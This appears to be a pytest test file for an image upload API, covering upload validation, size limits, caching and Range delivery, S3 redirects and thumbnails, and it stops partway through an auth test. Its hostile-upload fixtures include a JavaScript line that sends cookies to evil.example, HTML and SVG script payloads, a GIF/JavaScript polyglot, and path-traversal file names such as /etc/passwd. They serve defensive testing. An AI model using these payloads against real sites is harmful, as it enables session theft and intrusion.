"""The images routes (views/images_*): upload, its checks and limits, delivery, thumbnails, listing,
deletion, quotas, as a client sees them over HTTP.

Every image is made with Pillow right here; every test runs on SQLite and MariaDB, and on both image
stores (``local``: a folder, ``s3``: SeaweedFS): what is stored is checked through the store's own API
or listing, so the same assertion holds on either.
"""

from __future__ import annotations

import asyncio
import hashlib
import io
import os
import re
import secrets
import urllib.error
import urllib.request
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import pytest
from PIL import Image as PILImage

from demo.common.errors import InvalidImage
from demo.common.images import imaging
from demo.common.images.storage import object_name
from demo.common.images.uploads import IN_MEMORY_MAX, SPOOL_WRITE_BYTES, UploadSpool
from demo.models import Image, ImageBlob
from tests.common.images.support import (
    KIB,
    MIME,
    animation,
    assert_error,
    assert_no_temp_files,
    assert_nothing_stored,
    blob_refs,
    chunked,
    count,
    encode,
    fetch,
    gif_of,
    gif_with_frames,
    gif_with_screen,
    gradient,
    jpeg,
    json_error,
    multipart,
    noise,
    open_image,
    path_of,
    png,
    png_claiming,
    second_user,
    stored,
    stored_objects,
    stored_thumbnails,
    temp_files,
    upload,
    uploaded,
    webp_canvas,
)
from tests.helpers import parse_raw_response, raw_http, raw_socket

gen_test = pytest.mark.gen_test(timeout=60)
WIDTHS = ("160", "320", "640", "1280")
IMAGE_KEYS = {"id", "url", "width", "height", "format", "bytes", "sha256", "created_at", "thumbnails"}
IMMUTABLE = "public, max-age=31536000, immutable"

# Every test here on both image stores: the ids read e.g. [sqlite-local], [mysql-s3].
pytestmark = pytest.mark.usefixtures("storage")


# -- upload: the response contract -----------------------------------------------------------------


@gen_test
async def test_multipart_upload_answers_201_with_the_image_object_and_location(api, user, app, base_url):
    data = jpeg((64, 48))
    response = await upload(api, user.token, data)
    assert response.code == 201, response.body
    image = response.json["image"]
    assert set(response.json) == {"image"} and set(image) == IMAGE_KEYS
    assert image["format"] == "jpeg" and (image["width"], image["height"]) == (64, 48)
    assert re.fullmatch(r"[A-Za-z0-9_-]{22,}", image["id"])  # >= 128 bits, URL-safe
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", image["created_at"])
    assert image["url"] == f"{base_url}/images/{image['id']}.jpg"
    assert response.headers["Location"] == image["url"]
    assert image["thumbnails"] == {w: f"{image['url']}?w={w}" for w in WIDTHS}
    assert response.headers["Content-Type"].startswith("application/json")

    served = await fetch(api, image["url"])
    assert served.code == 200
    assert image["sha256"] == hashlib.sha256(served.body).hexdigest()
    assert image["bytes"] == len(served.body)
    assert count(app, Image) == 1 and count(app, ImageBlob) == 1
    assert_no_temp_files(app)


@gen_test
async def test_raw_body_upload_is_accepted(api, user, app):
    data = png((30, 20))
    image = await uploaded(api, user.token, data, raw=True, content_type="image/png")
    assert image["format"] == "png" and image["url"].endswith(".png")
    assert (image["width"], image["height"]) == (30, 20)
    served = await fetch(api, image["url"])
    assert served.code == 200 and hashlib.sha256(served.body).hexdigest() == image["sha256"]
    assert_no_temp_files(app)


@gen_test
async def test_ids_are_unique_and_unguessable(api, user):
    data = jpeg()
    ids = {(await uploaded(api, user.token, data))["id"] for _ in range(3)}
    assert len(ids) == 3


@gen_test
async def test_urls_follow_the_scheme_and_host_the_client_used_through_the_proxy(api, user):
    headers = {"X-Forwarded-Proto": "https", "Host": "photos.example.com"}
    response = await upload(api, user.token, jpeg(), headers=headers)
    assert response.code == 201, response.body
    image = response.json["image"]
    assert image["url"] == f"https://photos.example.com/images/{image['id']}.jpg"
    assert response.headers["Location"] == image["url"]
    assert all(url.startswith("https://photos.example.com/images/") for url in image["thumbnails"].values())

    listed = await api.get("/images", token=user.token, headers=headers)
    assert listed.json["images"][0]["url"] == image["url"]


@pytest.mark.settings(public_url="https://cdn.example.com/")
@gen_test
async def test_public_url_setting_wins_over_the_request_host(api, user):
    response = await upload(api, user.token, jpeg(), headers={"Host": "internal:8000"})
    image = response.json["image"]
    assert image["url"] == f"https://cdn.example.com/images/{image['id']}.jpg"
    assert image["thumbnails"]["160"] == f"https://cdn.example.com/images/{image['id']}.jpg?w=160"
    assert response.headers["Location"] == image["url"]


@gen_test
async def test_webp_is_accepted(api, user):
    image = await uploaded(api, user.token, encode(gradient((48, 32)), "WEBP"), content_type="image/webp")
    assert image["format"] == "webp" and image["url"].endswith(".webp")
    served = await fetch(api, image["url"])
    assert served.headers["Content-Type"] == "image/webp"
    assert open_image(served.body).size == (48, 32)


@gen_test
async def test_the_content_decides_the_format_not_the_content_type_or_name(api, user):
    image = await uploaded(api, user.token, png(), raw=True, content_type="image/gif")
    assert image["format"] == "png" and image["url"].endswith(".png")
    image = await uploaded(api, user.token, jpeg(), filename="photo.png", content_type="image/png")
    assert image["format"] == "jpeg" and image["url"].endswith(".jpg")


# -- hostile uploads: 4xx, and nothing left on disk or in the database -----------------------------

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
JAVASCRIPT = b"fetch('https://evil.example/?c=' + document.cookie);\n"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>"
)


@pytest.mark.parametrize("raw", [False, True], ids=["multipart", "raw"])
@pytest.mark.parametrize("body", [HTML, JAVASCRIPT, SVG], ids=["html", "javascript", "svg"])
@gen_test
async def test_non_images_named_jpg_are_415(api, user, app, body, raw):
    response = await upload(api, user.token, body, filename="cute.jpg", content_type="image/jpeg", raw=raw)
    assert response.code == 415 and response.error == "unsupported_media_type"
    assert_nothing_stored(app)


@pytest.mark.parametrize(
    "content_type",
    [
        "text/html",
        "application/javascript",
        "image/svg+xml; charset=utf-8",
        "application/octet-stream",
        "text/plain",
        "",
    ],
    ids=["html", "javascript", "svg", "octet-stream", "text", "none"],
)
@gen_test
async def test_raw_bodies_must_be_images_by_content(api, user, app, content_type):
    body = SVG if "svg" in content_type else HTML
    response = await api.post("/images", body=body, token=user.token, headers={"Content-Type": content_type})
    assert response.code == 415 and response.error == "unsupported_media_type"
    assert_nothing_stored(app)


@pytest.mark.parametrize(
    "make, why",
    [
        (lambda: jpeg((64, 48))[:300], "truncated jpeg"),
        (lambda: jpeg((64, 48))[:-200], "jpeg missing its end"),
        (lambda: b"\xff\xd8\xff\xe0" + os.urandom(2000), "jpeg magic, garbage after"),
        (lambda: png()[:60], "truncated png"),
        (lambda: b"GIF89a/*" + JAVASCRIPT + b"*/", "gif/javascript polyglot"),
        (lambda: png_claiming(50000, 50000), "png header claims 50000x50000"),
        (lambda: gif_with_screen(65535, 65535), "gif with a huge logical screen"),
        (lambda: webp_canvas(16384, 16384), "webp canvas claims 16384x16384"),
        (lambda: gif_with_frames(1001), "gif with 1001 frames"),
    ],
    ids=lambda v: v if isinstance(v, str) else "",
)
@gen_test
async def test_corrupt_truncated_or_oversized_images_are_422(api, user, app, make, why):
    response = await upload(api, user.token, make())
    assert response.code == 422 and response.error == "invalid_image", (why, response.body)
    assert response.json["error"]["field"] == "image"
    assert_nothing_stored(app)


@pytest.mark.settings(max_image_pixels=100 * 100)
@gen_test
async def test_pixel_limit_is_a_setting(api, user, app):
    response = await upload(api, user.token, jpeg((101, 100)))
    assert response.code == 422 and response.error == "invalid_image"
    assert_nothing_stored(app)
    assert (await upload(api, user.token, jpeg((100, 100)))).code == 201


@pytest.mark.parametrize("raw", [False, True], ids=["multipart", "raw"])
@gen_test
async def test_empty_body_is_422(api, user, app, raw):
    response = await upload(api, user.token, b"", raw=raw)
    assert response.code == 422 and response.error == "invalid_image"
    assert_nothing_stored(app)


@pytest.mark.parametrize(
    "body, why",
    [
        (b"--nope\r\nnot a multipart body at all", "garbage"),
        (b"", "no parts"),
    ],
    ids=["garbage", "no-parts"],
)
@gen_test
async def test_malformed_multipart_is_422(api, user, app, body, why):
    response = await api.post(
        "/images", body=body, token=user.token, headers={"Content-Type": "multipart/form-data; boundary=abc"}
    )
    assert response.code == 422 and response.error == "invalid_field", why
    assert_nothing_stored(app)


@gen_test
async def test_multipart_without_the_image_field_is_422(api, user, app):
    body, content_type = multipart(jpeg(), field="photo")
    response = await api.post("/images", body=body, token=user.token, headers={"Content-Type": content_type})
    assert_error(response, 422, "invalid_field", "image")
    assert_nothing_stored(app)


HOSTILE_NAMES = [
    b"../../escaped.jpg",
    b"..%2f..%2fescaped.jpg",
    b"x.jpg\x00.html",
    b"/etc/passwd",
    b"..\\..\\escaped.jpg",
]


@pytest.mark.parametrize("filename", HOSTILE_NAMES, ids=["dotdot", "encoded", "nul", "absolute", "backslash"])
@gen_test
async def test_hostile_file_names_carrying_html_are_415_and_touch_nothing(api, user, app, tmp_path, filename):
    response = await upload(api, user.token, HTML, filename=filename)
    assert response.code == 415 and response.error == "unsupported_media_type"
    assert_nothing_stored(app)
    assert not list(tmp_path.rglob("escaped*"))


@pytest.mark.parametrize("filename", HOSTILE_NAMES, ids=["dotdot", "encoded", "nul", "absolute", "backslash"])
@gen_test
async def test_hostile_file_names_are_never_used(api, user, app, tmp_path, filename):
    """The client's name plays no part: a real image is stored under its content hash, and only there."""
    response = await upload(api, user.token, jpeg(), filename=filename)
    assert response.code == 201, response.body
    image = response.json["image"]
    assert b"escaped" not in response.body and b"passwd" not in response.body
    assert stored_objects(app.services.settings) == [object_name(image["sha256"])]
    assert not list(tmp_path.rglob("escaped*"))
    assert_no_temp_files(app)


# -- size limits: 413 up front and mid-stream ------------------------------------------------------

LIMIT = 64 * KIB


def request_head(token: str, content_type: str, *, length: int | None = None, extra: str = "") -> bytes:
    framing = f"Content-Length: {length}" if length is not None else "Transfer-Encoding: chunked"
    return (
        f"POST /images HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {token}\r\n"
        f"Content-Type: {content_type}\r\n{framing}\r\n{extra}\r\n"
    ).encode()


def tasks() -> set[asyncio.Task[Any]]:
    return asyncio.all_tasks() - {asyncio.current_task()}  # type: ignore[operator]


async def assert_handlers_end(before: set[asyncio.Task[Any]]) -> None:
    """Every task started since ``before`` (the connection's, the request handler's) finishes once the
    connection is gone: none is left waiting forever for a body that will never come."""
    started = tasks() - before
    if started:
        _, pending = await asyncio.wait(started, timeout=10)
        assert not pending, pending


@pytest.mark.settings(max_upload_bytes=LIMIT)
@pytest.mark.parametrize("content_type", ["image/jpeg", "multipart/form-data; boundary=abc"], ids=["raw", "multipart"])
@gen_test
async def test_declared_length_over_the_limit_is_413_before_the_body(app, user, http_port, content_type):
    head = request_head(user.token, content_type, length=10 * 1024 * 1024)
    status, headers, body = await raw_http(http_port, head)  # no body sent: the answer cannot wait for it
    assert status == 413 and headers["content-type"].startswith("application/json")
    assert json_error(body) == "too_large"
    assert_nothing_stored(app)


@pytest.mark.settings(max_upload_bytes=LIMIT)
@pytest.mark.parametrize("raw", [False, True], ids=["multipart", "raw"])
@gen_test
async def test_body_over_the_limit_is_413(api, user, app, raw):
    data = b"\xff\xd8\xff\xe0" + os.urandom(LIMIT + 20 * KIB)
    response = await upload(api, user.token, data, raw=raw)
    assert response.code == 413 and response.error == "too_large"
    assert_nothing_stored(app)


@pytest.mark.settings(max_upload_bytes=LIMIT)
@gen_test
async def test_file_just_at_the_limit_passes_the_size_check(api, user, app):
    data = jpeg((16, 16))
    data += b"\x00" * (LIMIT - len(data))  # trailing bytes after the JPEG end: cut by re-encoding
    response = await upload(api, user.token, data)
    assert response.code == 201, response.body
    response = await upload(api, user.token, data + b"\x00")
    assert response.code == 413


@pytest.mark.settings(max_upload_bytes=LIMIT)
@pytest.mark.parametrize("kind", ["raw", "multipart"])
@gen_test
async def test_chunked_body_over_the_limit_is_413_mid_stream(app, user, http_port, kind):
    """The server answers 413 as soon as the limit is passed, closes, and the temp file is gone."""
    before = tasks()
    if kind == "raw":
        head, prefix = request_head(user.token, "image/jpeg"), b""
    else:
        prefix, _ = multipart(b"")
        boundary = prefix.split(b"\r\n", 1)[0][2:].decode()
        prefix = prefix.split(b"\r\n\r\n", 1)[0] + b"\r\n\r\n"  # part headers only; the file follows
        head = request_head(user.token, f"multipart/form-data; boundary={boundary}")
    data = prefix + b"\xff\xd8\xff\xe0" + os.urandom(LIMIT + 40 * KIB)
    pieces = [chunked(data[i : i + 8 * KIB]) for i in range(0, len(data), 8 * KIB)]  # never the final 0 chunk
    status, headers, body = await raw_http(http_port, head, pieces)
    assert status == 413 and headers["content-type"].startswith("application/json")
    assert json_error(body) == "too_large"
    assert_nothing_stored(app)
    await assert_handlers_end(before)


@gen_test
async def test_chunked_upload_within_the_limit_is_stored(app, user, http_port):
    data = jpeg((40, 30))
    pieces = [chunked(data[i : i + 100]) for i in range(0, len(data), 100)] + [b"0\r\n\r\n"]
    head = request_head(user.token, "image/jpeg", extra="Connection: close\r\n")
    status, _, body = await raw_http(http_port, head, pieces)
    assert status == 201, body
    assert count(app, Image) == 1
    assert_no_temp_files(app)


@gen_test
async def test_client_going_away_mid_upload_leaves_no_temp_file(app, user, http_port):
    before = tasks()
    sent = jpeg()[:500] + bytes(SPOOL_WRITE_BYTES)  # enough for the spool to start its temp file
    async with raw_socket(http_port) as conn:
        # Declared too long to be held in memory: the body goes to a temp file.
        await conn.send(request_head(user.token, "image/jpeg", length=IN_MEMORY_MAX + 1) + sent)
        for _ in range(200):
            if temp_files(app):
                break
            await asyncio.sleep(0.05)
        assert len(temp_files(app)) == 1  # the upload in progress (spooled locally on either backend)
    await assert_handlers_end(before)  # the client went away mid-body
    assert_nothing_stored(app)


@pytest.fixture
def disk_writes(monkeypatch) -> list[int]:
    """Bytes of each write of an upload body to its temp file."""
    writes, real_write = [], UploadSpool.write
    monkeypatch.setattr(
        UploadSpool, "write", lambda spool, chunks: (writes.append(sum(map(len, chunks))), real_write(spool, chunks))[1]
    )
    return writes


@gen_test
async def test_a_small_upload_never_touches_the_disk_before_it_is_stored(api, user, app, disk_writes):
    image = await uploaded(api, user.token, jpeg((200, 150)))
    assert disk_writes == [] and app.services.images.upload_memory.in_use == 0
    assert (await fetch(api, image["url"])).code == 200


@pytest.mark.settings(upload_memory=100_000)
@gen_test
async def test_bodies_go_to_disk_when_upload_memory_is_taken_or_too_small(api, user, app, disk_writes):
    data = encode(noise((200, 200)), "PNG")  # ~120 KB: more than upload_memory allows
    assert len(data) > 100_000
    await uploaded(api, user.token, data, raw=True, content_type="image/png")
    assert sum(disk_writes) == len(data)
    held = app.services.images.upload_memory
    assert held.try_take(99_000)  # another upload holds most of it now
    disk_writes.clear()
    small = jpeg((64, 48))
    # On S3 the put of the stored file waits for room in the same budget: it goes on once it is back.
    pending = asyncio.ensure_future(uploaded(api, user.token, small, raw=True))
    while sum(disk_writes) < len(small):
        await asyncio.sleep(0.01)
    assert sum(disk_writes) == len(small) and held.in_use >= 99_000
    held.give_back(99_000)
    await pending
    assert held.in_use == 0
    assert_no_temp_files(app)


@gen_test
async def test_client_going_away_mid_small_upload_gives_the_memory_back(app, user, http_port, disk_writes):
    before = tasks()
    held = app.services.images.upload_memory
    async with raw_socket(http_port) as conn:
        await conn.send(request_head(user.token, "image/jpeg", length=100_000) + jpeg()[:500])
        for _ in range(200):
            if held.in_use:
                break
            await asyncio.sleep(0.05)
        assert held.in_use == 100_000  # the upload in progress
    await assert_handlers_end(before)  # the client went away mid-body
    assert held.in_use == 0 and disk_writes == []
    assert_nothing_stored(app)


# -- delivery: headers, 304, Range, 404 ------------------------------------------------------------


@pytest.mark.parametrize(
    "fmt, mime", [("jpeg", "image/jpeg"), ("png", "image/png"), ("gif", "image/gif"), ("webp", "image/webp")]
)
@gen_test
async def test_delivery_headers(api, user, fmt, mime):
    data = encode(gradient((40, 30)).convert("P") if fmt == "gif" else gradient((40, 30)), fmt.upper())
    image = await uploaded(api, user.token, data, content_type=mime)
    served = await fetch(api, image["url"])  # no token: image URLs are public (unguessable ids)
    assert served.code == 200
    assert served.headers["Content-Type"] == mime
    assert served.headers["ETag"] == f'"{image["sha256"]}"'
    assert served.headers["Cache-Control"] == IMMUTABLE
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.headers["Content-Security-Policy"] == "sandbox"
    assert int(served.headers["Content-Length"]) == image["bytes"] == len(served.body)
    assert hashlib.sha256(served.body).hexdigest() == image["sha256"]


@gen_test
async def test_if_none_match_gives_304(api, user):
    image = await uploaded(api, user.token, jpeg())
    etag = f'"{image["sha256"]}"'
    # "*" matches any existing representation: for GET and HEAD, 304 (RFC 9110 13.1.2).
    for header in (etag, f'"other", {etag}', f"W/{etag}", "*", " * "):
        response = await fetch(api, image["url"], headers={"If-None-Match": header})
        assert response.code == 304, header
        assert response.body == b"" and response.headers["ETag"] == etag
        assert response.headers["Cache-Control"] == IMMUTABLE
    response = await fetch(api, image["url"], headers={"If-None-Match": '"something-else"'})
    assert response.code == 200 and response.body


@gen_test
async def test_range_requests(api, user):
    image = await uploaded(api, user.token, jpeg((120, 90)))
    full = (await fetch(api, image["url"])).body
    size = len(full)
    assert size > 200

    first = await fetch(api, image["url"], headers={"Range": "bytes=0-99"})
    assert first.code == 206 and first.body == full[:100]
    assert first.headers["Content-Range"] == f"bytes 0-99/{size}"
    assert first.headers["Content-Length"] == "100"
    assert first.headers["ETag"] == f'"{image["sha256"]}"'

    suffix = await fetch(api, image["url"], headers={"Range": "bytes=-50"})
    assert suffix.code == 206 and suffix.body == full[-50:]
    assert suffix.headers["Content-Range"] == f"bytes {size - 50}-{size - 1}/{size}"

    open_ended = await fetch(api, image["url"], headers={"Range": "bytes=100-"})
    assert open_ended.code == 206 and open_ended.body == full[100:]

    past_end = await fetch(api, image["url"], headers={"Range": f"bytes={size - 10}-{size + 1000}"})
    assert past_end.code == 206 and past_end.body == full[-10:]

    huge_suffix = await fetch(api, image["url"], headers={"Range": f"bytes=-{size + 1000}"})
    assert huge_suffix.code == 206 and huge_suffix.body == full

    for header in (f"bytes={size}-", f"bytes={size + 5}-{size + 10}", "bytes=-0"):
        outside = await fetch(api, image["url"], headers={"Range": header})
        assert outside.code == 416, header
        assert outside.error == "range_not_satisfiable"
        assert outside.headers["Content-Range"] == f"bytes */{size}"
        assert outside.headers["Content-Type"].startswith("application/json")

    ignored = await fetch(api, image["url"], headers={"Range": "lines=1-2"})
    assert ignored.code == 200 and ignored.body == full


@gen_test
async def test_head_gives_the_headers_without_the_body(api, user):
    image = await uploaded(api, user.token, jpeg())
    response = await api.request("HEAD", path_of(image["url"]))
    assert response.code == 200 and response.body == b""
    assert response.headers["ETag"] == f'"{image["sha256"]}"'
    assert int(response.headers["Content-Length"]) == image["bytes"]


@gen_test
async def test_unknown_ids_and_wrong_extensions_are_404(api, user):
    image = await uploaded(api, user.token, jpeg())
    base = path_of(image["url"])[: -len(".jpg")]
    for path in (
        base + ".png",
        base + ".gif",
        base + ".webp",
        base + ".jpeg",
        base + ".JPG",
        "/images/" + secrets.token_urlsafe(16) + ".jpg",
        "/images/short.jpg",
        "/images/" + "a" * 200 + ".jpg",
        base + ".jpg/extra",
    ):
        response = await api.get(path)
        assert response.code == 404, path
        assert_error(response, 404, "not_found")


@gen_test
async def test_an_image_id_in_another_letter_case_is_404(api, user, app):
    """Ids are case-sensitive on both databases (MariaDB's default collation matched any case)."""
    image = await uploaded(api, user.token, jpeg((400, 300)))
    swapped = image["id"].swapcase()
    assert swapped != image["id"]
    for url in (image["url"], image["thumbnails"]["160"]):
        assert_error(await fetch(api, url.replace(image["id"], swapped)), 404, "not_found")
    assert_error(await api.delete(f"/images/{swapped}", token=user.token), 404, "not_found")
    assert (await fetch(api, image["url"])).code == 200 and count(app, Image) == 1


@gen_test
async def test_a_large_image_is_streamed_from_the_store_whole_and_in_ranges(api, user, app):
    """Above the memory cache's item limit (512 KiB) the bytes come from the store in chunks, never held
    whole: every header, 304, 206 (across chunk boundaries), 416 and HEAD as for a small one."""
    data = encode(noise((600, 600), seed=3), "PNG")  # incompressible: about 1 MiB once re-encoded
    image = await uploaded(api, user.token, data, content_type="image/png")
    size = image["bytes"]
    assert size > 2 * 512 * KIB
    images = app.services.images
    original = await images.file_for(await images.find(image["id"]), None)
    assert await images.contents(original) is None  # too large for memory: streamed

    served = await fetch(api, image["url"])
    assert served.code == 200 and len(served.body) == size
    assert hashlib.sha256(served.body).hexdigest() == image["sha256"]
    assert served.headers["Content-Length"] == str(size)
    assert served.headers["Content-Type"] == "image/png" and served.headers["Cache-Control"] == IMMUTABLE
    assert served.headers["ETag"] == f'"{image["sha256"]}"' and served.headers["Content-Security-Policy"] == "sandbox"
    assert served.headers["Accept-Ranges"] == "bytes" and served.headers["X-Content-Type-Options"] == "nosniff"

    chunk = 256 * KIB
    for first, last in ((chunk - 10, 3 * chunk + 5), (0, chunk), (size - 7, size - 1), (chunk, chunk)):
        ranged = await fetch(api, image["url"], headers={"Range": f"bytes={first}-{last}"})
        assert ranged.code == 206 and ranged.body == served.body[first : last + 1], (first, last)
        assert ranged.headers["Content-Range"] == f"bytes {first}-{last}/{size}"
    suffix = await fetch(api, image["url"], headers={"Range": f"bytes=-{chunk + 1}"})
    assert suffix.code == 206 and suffix.body == served.body[-(chunk + 1) :]
    assert_error(await fetch(api, image["url"], headers={"Range": f"bytes={size}-"}), 416, "range_not_satisfiable")

    again = await fetch(api, image["url"], headers={"If-None-Match": served.headers["ETag"]})
    assert again.code == 304 and again.body == b""
    head = await api.request("HEAD", path_of(image["url"]))
    assert head.code == 200 and head.body == b"" and head.headers["Content-Length"] == str(size)


# -- behind nginx: the internal redirect to the store (X-Accel-Redirect) --------------------------

STORE_LOCATION = {"X-Demo-Store-Location": "/_store/"}  # what nginx's image location sends the app
# One backend for a test about that backend (the id still reads [sqlite-s3] or [sqlite-local]).
s3_only = pytest.mark.parametrize("storage", [pytest.param("s3", marks=pytest.mark.s3)], indirect=True)
local_only = pytest.mark.parametrize("storage", ["local"], indirect=True)


def redirect_target(response, s3_server) -> str:
    """The presigned URL an X-Accel-Redirect answer hands nginx, as a URL of the store itself."""
    location = response.headers["X-Accel-Redirect"]
    assert location.startswith("/_store/"), location
    return f"{s3_server.endpoint}/{location.removeprefix('/_store/')}"


def get_directly(url: str) -> tuple[int, bytes]:
    """GET without any credential but the URL's own signature (as nginx's internal location does)."""
    try:
        with urllib.request.urlopen(url, timeout=10) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as error:
        return error.code, error.read()


def assert_image_headers(response, image: dict[str, Any], etag: str) -> None:
    assert response.headers["Content-Type"] == MIME_OF[image["format"]]
    assert response.headers["Cache-Control"] == IMMUTABLE
    assert response.headers["ETag"] == etag
    assert response.headers["Content-Security-Policy"] == "sandbox"
    assert response.headers["Accept-Ranges"] == "bytes"
    assert response.headers["X-Content-Type-Options"] == "nosniff"


MIME_OF = {"jpeg": "image/jpeg", "png": "image/png", "gif": "image/gif", "webp": "image/webp"}


@s3_only
@pytest.mark.settings(trusted_proxies="127.0.0.0/8,::1")
@gen_test
async def test_behind_the_proxy_an_s3_image_is_an_internal_redirect_to_a_presigned_url(api, user, app, s3_server):
    image = await uploaded(api, user.token, jpeg((800, 600)))
    sha, prefix = image["sha256"], app.services.settings.storage.removeprefix("s3://")
    streamed = await fetch(api, image["url"])  # no header: the bytes themselves
    assert streamed.code == 200 and hashlib.sha256(streamed.body).hexdigest() == sha

    for url, etag, width in (
        (image["url"], f'"{sha}"', None),
        (image["thumbnails"]["160"], f'"{sha}-w160"', 160),  # the thumbnail is made on the way
    ):
        response = await fetch(api, url, headers=STORE_LOCATION)
        assert response.code == 200 and response.body == b"", response.body
        assert_image_headers(response, image, etag)
        location = response.headers["X-Accel-Redirect"]
        assert location.startswith(f"/_store/{prefix}/{object_name(sha, width)}?"), location
        query = parse_qs(urlsplit(location).query)
        assert query["X-Amz-Algorithm"] == ["AWS4-HMAC-SHA256"] and query["X-Amz-Signature"]
        # What nginx's internal location fetches: the exact stored bytes, on the URL's signature alone.
        status, body = get_directly(redirect_target(response, s3_server))
        assert status == 200 and body == app.services.store.read(sha, width)
    status, body = get_directly(redirect_target(await fetch(api, image["url"], headers=STORE_LOCATION), s3_server))
    assert status == 200 and body == streamed.body

    # A revalidation is the app's own 304, and HEAD its own headers: neither sends nginx to the store.
    cached = await fetch(api, image["url"], headers={**STORE_LOCATION, "If-None-Match": f'"{sha}"'})
    assert cached.code == 304 and cached.body == b"" and "X-Accel-Redirect" not in cached.headers
    head = await api.request("HEAD", path_of(image["url"]), headers=STORE_LOCATION)
    assert head.code == 200 and head.body == b"" and "X-Accel-Redirect" not in head.headers
    assert head.headers["Content-Length"] == str(image["bytes"])
    assert_image_headers(head, image, f'"{sha}"')


async def assert_streamed_by_the_app(api, image) -> None:
    """The original and a thumbnail come from the app itself, not as a redirect to the store."""
    for url in (image["url"], image["thumbnails"]["160"]):
        response = await fetch(api, url, headers=STORE_LOCATION)
        assert response.code == 200 and "X-Accel-Redirect" not in response.headers
        assert response.body and response.headers["Content-Length"] == str(len(response.body))
        assert open_image(response.body).format == "JPEG"
    full = await fetch(api, image["url"], headers=STORE_LOCATION)
    assert hashlib.sha256(full.body).hexdigest() == image["sha256"]


@s3_only
@pytest.mark.settings(trusted_proxies="192.0.2.1")  # a proxy elsewhere: the test client is not it
@gen_test
async def test_the_store_location_header_from_an_untrusted_peer_is_ignored(api, user):
    await assert_streamed_by_the_app(api, await uploaded(api, user.token, jpeg((400, 300))))


@local_only
@pytest.mark.settings(trusted_proxies="127.0.0.0/8,::1")
@gen_test
async def test_a_local_store_always_streams_even_behind_the_proxy(api, user):
    """A folder has no URL nginx could fetch: the app sends the bytes itself, header or not."""
    await assert_streamed_by_the_app(api, await uploaded(api, user.token, jpeg((400, 300))))


# -- thumbnails ------------------------------------------------------------------------------------


@gen_test
async def test_thumbnails_have_the_asked_width(api, user, app):
    image = await uploaded(api, user.token, jpeg((1600, 1000)))
    original = (await fetch(api, image["url"])).body
    etags = set()
    for width in WIDTHS:
        response = await fetch(api, image["thumbnails"][width])
        assert response.code == 200, width
        thumb = open_image(response.body)
        assert thumb.format == "JPEG" and thumb.size == (int(width), round(1000 * int(width) / 1600))
        assert response.headers["Content-Type"] == "image/jpeg"
        assert response.headers["Cache-Control"] == IMMUTABLE
        assert response.headers["Content-Security-Policy"] == "sandbox"
        assert response.body != original
        etag = response.headers["ETag"]
        assert etag.startswith('"') and not etag.startswith("W/") and etag != f'"{image["sha256"]}"'
        etags.add(etag)
        again = await fetch(api, image["thumbnails"][width], headers={"If-None-Match": etag})
        assert again.code == 304
        ranged = await fetch(api, image["thumbnails"][width], headers={"Range": "bytes=0-9"})
        assert ranged.code == 206 and ranged.body == response.body[:10]
    assert len(etags) == 4
    assert stored_thumbnails(app, image["sha256"]) == [160, 320, 640, 1280]


@gen_test
async def test_thumbnails_never_upscale(api, user, app):
    image = await uploaded(api, user.token, jpeg((200, 100)))
    original = await fetch(api, image["url"])
    small = await fetch(api, image["thumbnails"]["160"])
    assert open_image(small.body).size == (160, 80)
    for width in ("320", "640", "1280"):
        response = await fetch(api, image["thumbnails"][width])
        assert response.code == 200 and response.body == original.body
        assert response.headers["ETag"] == original.headers["ETag"]
    assert stored_thumbnails(app, image["sha256"]) == [160]


# Only the spellings the links use: nginx's cache keys on the raw argument ("0160" would miss it).
@pytest.mark.parametrize(
    "width", ["100", "0", "-160", "abc", "2000", "160.0", "", "1600", "1e3", "0160", "00160", "+160", "000001280"]
)
@gen_test
async def test_other_widths_are_422(api, user, width):
    image = await uploaded(api, user.token, jpeg())
    response = await fetch(api, f"{image['url']}?w={width}")
    assert_error(response, 422, "invalid_field", "w")


@pytest.mark.parametrize("kind", ["png-alpha", "gif-animated", "webp", "png-16-bit"])
@gen_test
async def test_thumbnails_keep_format_alpha_and_animation(api, user, kind):
    if kind == "png-alpha":
        data, mime = encode(PILImage.new("RGBA", (400, 200), (255, 0, 0, 60)), "PNG"), "image/png"
    elif kind == "gif-animated":
        frames = [gradient((400, 200)).rotate(angle).convert("P") for angle in (0, 90, 180)]
        data = encode(frames[0], "GIF", save_all=True, append_images=frames[1:], duration=80, loop=0)
        mime = "image/gif"
    elif kind == "webp":
        data, mime = encode(gradient((400, 200)), "WEBP"), "image/webp"
    else:
        im = PILImage.new("I;16", (400, 200))
        im.putdata([(i * 37) % 65536 for i in range(400 * 200)])
        data, mime = encode(im, "PNG"), "image/png"
    image = await uploaded(api, user.token, data, content_type=mime)
    response = await fetch(api, image["thumbnails"]["160"])
    assert response.code == 200 and response.headers["Content-Type"] == mime
    thumb = open_image(response.body)
    assert thumb.size == (160, 80) and thumb.format == image["format"].upper()
    if kind == "png-alpha":
        assert thumb.mode == "RGBA" and thumb.getpixel((80, 40))[3] == 60
    if kind == "gif-animated":
        assert thumb.n_frames == 3


@gen_test
async def test_a_thumbnail_is_made_once_even_when_asked_for_concurrently(api, user, app, monkeypatch):
    image = await uploaded(api, user.token, jpeg((1400, 900)))
    made = []
    original = imaging.make_thumbnail

    def counting(*args: Any) -> None:
        made.append(args)
        original(*args)

    monkeypatch.setattr(imaging, "make_thumbnail", counting)
    responses = await asyncio.gather(*(fetch(api, image["thumbnails"]["320"]) for _ in range(8)))
    assert [r.code for r in responses] == [200] * 8
    assert len({r.body for r in responses}) == 1
    assert open_image(responses[0].body).width == 320
    assert len(made) == 1
    assert stored_thumbnails(app, image["sha256"]) == [320]
    assert app.services.store.read(image["sha256"], 320) == responses[0].body
    assert_no_temp_files(app)


# -- auth on every call ----------------------------------------------------------------------------


@pytest.mark.parametrize("authorization", [None, "Bearer ", "Bearer not-a-real-token", "Basic dXNlcjpwYXNz", "bearer"])
@gen_test
async def test_every_images_api_call_needs_a_valid_token(api, user, app, authorization):
    image = await uploaded(api, user.token, jpeg())
    headers = {"Authorization": authorization} if authorization is not None else {}
    body, content_type = multipart(jpeg((20, 20)))
    calls = [
